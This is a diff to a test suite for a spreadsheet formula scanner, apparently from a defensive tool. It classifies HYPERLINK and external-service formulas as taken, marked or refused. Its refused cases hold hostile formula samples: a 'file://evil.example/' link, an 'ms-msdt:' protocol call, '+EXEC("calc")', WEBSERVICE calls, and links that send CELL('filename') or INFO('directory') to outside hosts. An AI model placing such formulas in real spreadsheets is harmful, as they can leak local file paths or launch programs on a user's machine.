@@ -12,8 +12,9 @@ function outcome(formula: string): "taken" | "marked" | "refused" {
 it.each([
   'HYPERLINK("https://wa.me/"&B2)',
   'HYPERLINK("https://wa.me/"&SUBSTITUTE(B2,"0","62",1),"Chat")',
-  'HYPERLINK("https://"&B2,"Situs")',
-  'HYPERLINK("https://maps.example/?q="&A2&","&B2,"Peta")',
+  'HYPERLINK("https://api.whatsapp.com/send?phone="&B2,"Chat")',
+  'HYPERLINK("https://www.google.com/maps?q="&A2&","&B2,"Peta")',
+  'HYPERLINK("https://rs.example/"&"tarif?a=1","Tarif")',
   'HYPERLINK(CONCATENATE("https://wa.me/",B2),"Chat")',
   'HYPERLINK(("https://wa.me/"&B2))',
   'HYPERLINK(_xlfn.CONCAT("mailto:",C2))',
@@ -23,19 +24,24 @@ it.each([
   'HYPERLINK("Lampiran/"&A2&".pdf")',
   'HYPERLINK("C:\\Tarif\\"&A2)',
   'IF(B2="","",HYPERLINK("https://wa.me/"&B2,"Chat"))',
-])("a link that begins in the web or beside the file is taken: %s", (formula) => {
+])("a link to a fixed address, a known service or a place beside the file is taken: %s", (formula) => {
   expect(outcome(formula)).toBe("taken");
 });
 
 it.each([
   "HYPERLINK(B2)",
+  'HYPERLINK("https://"&B2,"Situs")',
+  'HYPERLINK("https://a.example/?q="&A2,"Cari")',
+  'HYPERLINK(CONCATENATE("https://a.example/?q=",_xlfn.ENCODEURL(A2)))',
+  'HYPERLINK("https://wa.me"&B2)',
+  'HYPERLINK("https://wa.me.a.example/"&B2)',
   'HYPERLINK(B2&"/share")',
   'HYPERLINK("/"&B2)',
   'HYPERLINK("java"&B2)',
   'HYPERLINK("file:"&B2)',
   'HYPERLINK("notes:"&B2)',
   'HYPERLINK(IF(A1=1,"https://a.example","https://b.example"))',
-])("a link whose beginning is computed is marked: %s", (formula) => {
+])("a link that carries cells to any other host, or whose beginning is computed, is marked: %s", (formula) => {
   expect(outcome(formula)).toBe("marked");
 });
 
@@ -47,8 +53,42 @@ it.each([
   'HYPERLINK(("file://evil.example/"&B2))',
   'HYPERLINK(CONCATENATE("ms-msdt:","/id"))',
   'HYPERLINK("https://a.example/"&WEBSERVICE(B2))',
-])("a link that starts a program or reaches into a network is refused, however it is put together: %s", (formula) => {
+  'HYPERLINK("https://a.example/?"&CELL("filename"),"klik")',
+  'HYPERLINK("https://wa.me/?text="&SUBSTITUTE(INFO("directory"),"a","b"))',
+])(
+  "a link that starts a program, reaches into a network or tells of the reader's machine is refused: %s",
+  (formula) => {
+    expect(outcome(formula)).toBe("refused");
+  },
+);
+
+it.each([
+  'STOCKHISTORY("MSFT",TODAY())',
+  '_xlfn.STOCKHISTORY(A2,"1/1/2026")',
+  '_xlfn.TRANSLATE(A2,"en","id")',
+  'GOOGLEFINANCE("IDX:BBCA")',
+  'COPILOT("ringkas",A2:A9)',
+])("a function that sends cells to any service is refused: %s", (formula) => {
   expect(outcome(formula)).toBe("refused");
+});
+
+it.each(["- New (baru)", "+ Image (foto)", "- Open (buka)", "@Input (data, hasil)", "- Request (formulir)"])(
+  "words with brackets are a text: %s",
+  (cell) => {
+    expect(judgeCell(cell, new Scan())).toEqual({ acting: null, unknown: [] });
+  },
+);
+
+it.each([
+  "-IMAGE(A1)",
+  '+EXEC("calc")',
+  "-HALT()",
+  "- Webservice (alamat)",
+  "=IMAGE(foto)",
+  "+IMAGE(RC)",
+  "-IMAGE(a1b)",
+])("a call with values is none: %s", (cell) => {
+  expect(judgeCell(cell, new Scan()).acting).not.toBeNull();
 });
 
 it("a cell of a table is judged by the same rules", () => {
